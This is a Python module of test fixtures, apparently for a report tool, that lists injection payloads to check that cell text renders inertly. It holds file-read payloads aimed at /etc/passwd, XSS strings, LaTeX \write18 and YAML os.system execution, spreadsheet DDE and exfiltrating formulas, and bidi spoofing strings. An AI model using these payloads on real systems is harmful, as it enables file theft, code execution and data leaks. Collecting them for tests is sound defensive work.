"""What somebody could write into a cell so that a program does more than show it, and how a reader must see it."""

from dataclasses import dataclass

from ens_reports.locales.hidden import marked

CANARY = "canary-of-the-environment"
"""Value of the variable ENS_CANARY where these are tried."""
LEAKED = (CANARY, "root:x:0:0", "daemon:x:")
"""What must not be read: a variable of the environment, and a file of the machine."""


@dataclass(frozen=True)
class Injection:
    """One of them.

    Attributes:
        kind: For whom it is meant.
        text: As it is sent.
    """

    kind: str
    text: str

    @property
    def shown(self) -> str:
        """As a reader must see it: line ends and tabs are blanks, hidden characters are marks."""
        return " ".join(marked(self.text).split())


INJECTIONS = tuple(
    Injection(kind, text)
    for kind, texts in {
        "shortcode": (
            "{{< include /etc/passwd >}}",
            "{{< env ENS_CANARY >}}",
            "{{< meta title >}} {{< var x >}} {{< pagebreak >}}",
            "{{{< include /etc/passwd >}}}",
            "\n\n{{< include ../../../etc/passwd >}}\n\n",
            "{{% include /etc/passwd %}}",
        ),
        "typst": (
            '#read("/etc/passwd")',
            '#include "/etc/passwd"',
            '#image("/etc/passwd")',
            '```{=typst}\n#read("/etc/passwd")\n```',
            '`#read("/etc/passwd")`{=typst}',
            "#let x = 1; #x; $ x^2 $ @label <label> #[bold] *b* _e_",
            '"); #read("/etc/passwd"); ("',
        ),
        "html": (
            "<script>document.title='ran'</script>",
            "<img src=x onerror=\"document.title='ran'\">",
            "<svg onload=\"document.title='ran'\"><script>alert(1)</script></svg>",
            '<iframe src="https://example.org/"></iframe>',
            '<link rel="stylesheet" href="https://example.org/a.css">',
            '"><script>alert(1)</script>',
            "'--></style></title></textarea><script>alert(1)</script>",
            "<!--#include file='/etc/passwd'-->",
            '<meta http-equiv="refresh" content="0;url=https://example.org/">',
            '<a href="javascript:alert(1)">x</a>',
            "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;",
            "```{=html}\n<script>alert(1)</script>\n```",
            "`<script>alert(1)</script>`{=html}",
        ),
        "latex": (
            "\\input{/etc/passwd}",
            "\\write18{touch /tmp/ran}",
            "$\\frac{1}{2}$ \\(x\\) \\[y\\]",
            "```{=latex}\n\\input{/etc/passwd}\n```",
        ),
        "markdown": (
            "![a](/etc/passwd)",
            "![a](https://example.org/x.png)",
            "[b](https://example.org/x)",
            "[c]: https://example.org/x",
            "<https://example.org/x>",
            "# heading\n## other\n- item\n1. one\n> quote\n| a | b |\n|---|---|",
            "::: {.callout}\nx\n:::",
            "~~~\n```\n`````\n[^1] [@cite] *a* **b** ~~c~~ ^d^",
            "[x]{onclick=alert(1)} {#id .class key=v}",
            "@fig-1 @label [@cite, p. 3] -- --- ... 'quoted' \\@x",
        ),
        "yaml": (
            "---\nfilters: [x.lua]\ninclude-before-body: /etc/passwd\n---",
            "---\ntitle: other\nformat: pdf\n...",
            "!!python/object/apply:os.system ['touch /tmp/ran']",
            "key: [unclosed, &anchor *alias, {a: b}",
        ),
        "template": ("$body$ $title$ $for(x)$ $endfor$ $$", "@@title@@ @@style@@", "{{ 7*7 }} {% raw %} ${7*7} <%= 7*7 %> %s %n {0}"),
        "formula": (
            "=1+1",
            "=cmd|' /c calc'!A0",
            '=HYPERLINK("https://example.org/"&A1,"x")',
            '=WEBSERVICE("https://example.org/")',
            "@SUM(1+1)*cmd|' /c calc'!A0",
            "+1+1",
            "-1+1",
            "\t=1+1",
            '=IMPORTXML("https://example.org/","//a")',
        ),
        "control": ("a\x00b", "\x1b[2Jred\x1b[31m\x07", "a\x08\x7f\x9bb", "a\r\nb\x0bc\x0cd"),
        "direction": ("a\u202egnp.exe", "\u2066a\u2069\u202ab\u202c\u202dc\u202c", "pay \u202e001\u202c now"),
    }.items()
    for text in texts
)
"""One of each way that is known; a list that only grows."""
KINDS = tuple(dict.fromkeys(one.kind for one in INJECTIONS))
